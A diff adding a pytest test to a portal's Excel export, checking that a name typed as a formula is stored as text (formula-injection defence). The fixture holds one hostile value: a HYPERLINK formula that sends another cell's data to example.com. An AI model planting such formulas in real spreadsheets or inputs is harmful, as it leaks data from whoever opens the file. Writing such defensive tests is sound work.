@@ -795,6 +795,19 @@ async def test_the_register_exports_to_excel_with_chinese_headers_and_masked_ids
     assert VALID_ID not in answer.content.decode("latin-1")
 
 
+async def test_a_name_typed_as_a_formula_is_exported_as_text(people, settings):
+    # A spreadsheet opening the register must not run what someone typed into a name (formula injection).
+    typed = '=HYPERLINK("http://example.com/?"&D2,"详情")'
+    await case_at(people, applicant_name=typed)
+    async with portal(settings) as client:
+        await sign_in(client, SLUG, "wangxiaolei")
+        answer = await client.get(f"/t/{SLUG}/cases/export.xlsx")
+    sheet = load_workbook(BytesIO(answer.content)).active
+    header = [cell.value for cell in sheet[1]]
+    cell = sheet[2][header.index("申请人")]
+    assert (cell.value, cell.data_type) == (typed, "s")
+
+
 # === open cases follow the substitute (同岗替代 第四条) ========================================================
 
 
